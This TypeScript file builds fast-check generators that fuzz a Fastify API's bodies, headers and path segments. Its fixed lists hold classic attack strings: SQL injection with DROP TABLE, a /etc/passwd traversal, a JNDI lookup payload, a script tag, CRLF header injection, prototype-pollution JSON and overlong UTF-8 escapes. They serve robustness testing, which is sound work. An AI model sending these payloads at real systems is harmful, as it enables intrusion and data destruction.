import fc from 'fast-check';

/** The part of JSON Schema (as TypeBox and @fastify/swagger emit it) that the arbitraries read. */
export interface JsonSchema {
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly format?: string;
  readonly pattern?: string;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly items?: JsonSchema;
  readonly minItems?: number;
  readonly maxItems?: number;
  readonly properties?: Readonly<Record<string, JsonSchema>>;
  readonly required?: readonly string[];
}

/**
 * Strings meant to break a parser, a query or a log line: NUL, lone surrogates, bidi overrides,
 * SQL and template injection, traversal, CRLF, prototype keys, numbers in disguise.
 */
const NASTY = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '😀',
  '\u202eevil',
  'Ω≈ç√∫',
  '\ufeff',
  "' OR '1'='1",
  '1; DROP TABLE users; --',
  '../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '$' + '{jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '\r\nx-injected: 1',
  '%s%s%s%n',
];

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  // Far above every maxLength in the contracts; the URL or body limit may refuse it first.
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 20_000 }).map((length) => 'x'.repeat(length)) },
);

/** Values of the wrong type for any field, including nesting deep enough to trouble a recursive walker. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue(), { maxKeys: 3 }),
  fc.integer({ min: 100, max: 1_000 }).map((depth) => deepArray(depth)),
);

function deepArray(depth: number): unknown {
  let value: unknown = [];
  for (let level = 0; level < depth; level++) value = [value];
  return value;
}

function typeOf(schema: JsonSchema): string | undefined {
  return Array.isArray(schema.type) ? schema.type[0] : (schema.type as string | undefined);
}

/** Values the schema accepts (or nearly: lengths are capped to keep requests small). */
export function validValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  switch (typeOf(schema)) {
    case 'string': {
      const minLength = schema.minLength ?? 0;
      const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 40));
      if (schema.format === 'email') return fc.emailAddress();
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'date-time')
        return fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
      if (schema.pattern !== undefined) {
        return fc
          .stringMatching(new RegExp(schema.pattern))
          .map((text) => text.slice(0, maxLength))
          .filter((text) => text.length >= minLength && new RegExp(schema.pattern!).test(text));
      }
      return fc.string({ minLength, maxLength });
    }
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.array(validValue(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 4, 4)),
      });
    case 'object': {
      const properties = schema.properties ?? {};
      const model = Object.fromEntries(
        Object.entries(properties).map(([name, field]) => [name, anyValue(field)]),
      );
      return fc.record(model, { requiredKeys: [...(schema.required ?? [])] });
    }
    default:
      return fc.jsonValue();
  }
}

/** Mostly values the schema accepts, sometimes a nasty string or a value of the wrong type. */
export function anyValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: validValue(schema) },
    { weight: 1, arbitrary: nastyString },
    { weight: 1, arbitrary: wrongType },
  );
}

/** A JSON body for `schema`: valid-ish, a field missing, extra fields, or not the right shape at all. */
export function bodyValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  const record = validValue(schema);
  const required = schema.required ?? [];
  return fc.oneof(
    { weight: 4, arbitrary: record },
    {
      weight: 1,
      arbitrary: fc.tuple(record, fc.nat()).map(([value, index]) => {
        if (typeof value !== 'object' || value === null || required.length === 0) return value;
        const { [required[index % required.length]!]: _dropped, ...rest } = value as Record<string, unknown>;
        return rest;
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          record,
          fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue(), { minKeys: 1, maxKeys: 3 }),
        )
        .map(([value, extra]) =>
          typeof value === 'object' && value !== null ? { ...value, ...extra } : value,
        ),
    },
    { weight: 1, arbitrary: wrongType },
  );
}

const MALFORMED_JSON = [
  '{',
  '{"a":',
  '{"a" 1}',
  "{'a':1}",
  '[1,]',
  'nul',
  '{"a":1}{"b":2}',
  '"',
  '{"a":NaN}',
  '{"a":"\\ud800"}',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '\u0000',
  '\ufeff{}',
];
const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=nope',
  'application/jsonx',
  'application/problem+json',
  '*/*',
];

export interface EncodedBody {
  readonly contentType: string | undefined;
  readonly text: string;
}

/** How a body reaches the wire: as JSON, malformed, deeply nested, under another content type, empty, or huge. */
export function encodedBody(schema: JsonSchema, hugeBytes: number): fc.Arbitrary<EncodedBody> {
  const json = 'application/json';
  return fc.oneof(
    {
      weight: 6,
      arbitrary: bodyValue(schema).map((value) => ({ contentType: json, text: JSON.stringify(value) })),
    },
    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_JSON).map((text) => ({ contentType: json, text })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(validValue(schema), fc.nat({ max: 40 }))
        .map(([value, cut]) => ({ contentType: json, text: JSON.stringify(value).slice(0, -1 - cut) })),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1_000, max: 100_000 })
        .chain((depth) =>
          fc.constantFrom(
            '['.repeat(depth) + ']'.repeat(depth),
            `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
          ),
        )
        .map((text) => ({ contentType: json, text })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...CONTENT_TYPES), validValue(schema))
        .map(([contentType, value]) => ({ contentType, text: JSON.stringify(value) })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<EncodedBody>(
        { contentType: json, text: '' },
        { contentType: undefined, text: '' },
      ),
    },
    { weight: 1, arbitrary: fc.constant({ contentType: json, text: `{"name":"${'x'.repeat(hugeBytes)}"}` }) },
  );
}

/** Header values a client can send at all (visible ASCII and spaces): the rest is the raw-socket tests' job. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
  fc.constantFrom(
    "' OR '1'='1",
    '../../etc/passwd',
    '$' + '{jndi:ldap://x/a}',
    '-1',
    '%00',
    'x'.repeat(4_000),
  ),
);

/** Percent-encodes everything but unreserved characters, byte by byte (lone surrogates become U+FFFD). */
export function encodeSegment(text: string): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9._~-]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** Raw path segments no encoder would produce: malformed escapes, overlong UTF-8, encoded separators. */
export const rawSegment: fc.Arbitrary<string> = fc.constantFrom(
  '%',
  '%ZZ',
  '%ED%A0%80',
  '%C0%AF',
  '%00',
  '%2F',
  '%2e%2e',
  '%FF',
  ';x=1',
);
